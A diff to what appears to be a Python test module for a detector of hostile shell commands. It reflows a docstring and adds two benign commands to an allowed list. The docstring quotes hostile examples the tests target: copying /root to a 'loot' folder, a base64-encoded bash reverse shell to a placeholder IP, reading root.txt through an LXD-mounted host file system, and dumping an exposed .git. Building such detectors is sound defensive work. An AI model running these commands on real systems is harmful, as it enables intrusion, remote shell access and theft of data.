@@ -20,8 +20,9 @@ are variants written for the tests, not the ones measured:
   (``cp -r /root ./loot``, ``ln -s /root courses``), not only a file under it. Listing it (``ls /root``)
   and checking it (``stat``) stay allowed; a remote shell piped into an encoder (``echo 'bash -i >&
   /dev/tcp/IP/4444 0>&1' | base64``): the payload made to pass a filter; another account's file on another
-  root file system (``cat /mnt/root/root.txt`` after an LXD container was given the host's ``/``); from left21's
-  held-out sample (blankshiro's write-ups): a site's exposed ``.git`` dumped (``git-dumper URL dir``).
+  root file system (``cat /mnt/root/root.txt`` after an LXD container was given the host's ``/``); from
+  left21's held-out sample (blankshiro's write-ups): a site's exposed ``.git`` dumped (``git-dumper URL
+  dir``).
 """
 
 from __future__ import annotations
@@ -113,6 +114,8 @@ ALLOWED = [
     "cat /mnt/home/dev/notes.txt",
     "cat /mnt/data/report.csv",
     "git-dumper --help",
+    "bspc node -t ~fullscreen",
+    'mitmdump -nr flows -w out "~m_post"',
     "git clone https://github.com/arthaud/git-dumper",
     "echo 'nc -z localhost 5432' | base64",
 ]
